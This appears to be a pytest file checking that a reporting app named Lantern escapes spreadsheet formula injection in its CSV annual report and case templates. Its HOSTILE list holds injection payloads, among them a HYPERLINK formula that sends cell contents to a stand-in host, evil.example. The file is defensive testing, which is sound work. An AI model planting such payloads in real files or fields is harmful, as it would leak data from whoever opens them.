"""Spreadsheets Lantern writes cannot run formulas (issue 15, finding 4): a region or parish
named `=HYPERLINK(…)` is written as text, with OWASP's leading single quote, in the annual
report's CSV and in the case template; numbers stay numbers."""

import csv
import io

import pytest

from coordination.plumbing.spreadsheet import safe_cell, safe_row
from tests.coordination.reporting import case_rows, open_year, providers, submit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *[(text, "'" + text) for text in HOSTILE],
        ("Home Region", "Home Region"),
        ("<5", "<5"),
        ("84%", "84%"),
        ("", ""),
        (None, ""),
        (12, 12),
        (-5, -5),  # a real number stays a number
        (-2.5, -2.5),
        ("-5", "'-5"),  # text that looks like one does not
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1+1", 3, "Orleans"]) == ["'=1+1", 3, "Orleans"]


@pytest.fixture
def hostile_year(world):
    world.home.name = HOSTILE[0]
    world.home.save()
    world.away.name = HOSTILE[3]
    world.away.save()
    world.home_parish.name = HOSTILE[1]
    world.home_parish.save()
    world.away_parish.name = HOSTILE[2]
    world.away_parish.save()
    first, second = providers(2)
    cycle = open_year(world.users["state_admin"], 2019, [first, second])
    submit(
        first,
        cycle,
        case_rows([(6, "sex", "confirmed", True)], world.home_parish),
        [world.home_parish],
    )
    rows = case_rows([(6, "labor", "prospective", False)], world.away_parish, start=100)
    submit(second, cycle, rows, [world.away_parish])
    return cycle


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def test_the_annual_reports_csv_writes_hostile_names_as_text(api, hostile_year):
    response = api("coordinator").get("/api/v1/reports/annual/2019.csv")
    assert response.status_code == 200
    written = cells(response.content)
    for name in HOSTILE[:4]:  # regions as named, parishes as "<name> Parish"
        assert any(cell.startswith("'" + name) for cell in written), name
    assert not [cell for cell in written if cell.startswith(STARTS_A_FORMULA)]
    assert "12" in written  # the counts are still plain numbers


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_case_template_is_safe(api, world, file_format):
    response = api("reporter").get(f"/api/v1/annual-submissions/template.{file_format}")
    assert response.status_code == 200
    if file_format == "csv":
        assert cells(response.content)[0] == "case_code"
